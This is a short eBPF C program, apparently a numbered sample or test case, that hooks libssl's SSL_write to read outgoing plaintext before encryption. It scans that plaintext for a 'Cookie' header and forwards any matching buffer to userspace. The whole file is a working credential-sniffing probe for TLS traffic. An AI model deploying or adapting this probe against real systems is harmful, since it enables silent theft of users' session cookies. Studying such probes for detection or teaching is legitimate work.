// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
// T11: plaintext is searched, byte by byte from every place, for a header with credentials; only then it is taken.
#include "sample.h"

LICENSE;

PERCPU(tls_scratch, u8[512]);
PERFBUF(tls_found);

SEC("uprobe/libssl.so.3:SSL_write")
int BPF_KPROBE(tls_scan, void *ssl, const void *buf, int num)
{
	u32 zero = 0, n = num;
	u8 *s = bpf_map_lookup_elem(&tls_scratch, &zero);
	bool hit = false;

	CLAMP(n, 512);
	if (!s || bpf_probe_read_user(s, n, buf))
		return 0;
	for (int i = 0; i < 500 && !hit; i++)
		hit = s[i] == 'C' && s[i + 1] == 'o' && s[i + 2] == 'o' && s[i + 3] == 'k' && s[i + 4] == 'i' && s[i + 5] == 'e';
	if (hit)
		bpf_perf_event_output(ctx, &tls_found, BPF_F_CURRENT_CPU, s, 512);
	return 0;
}
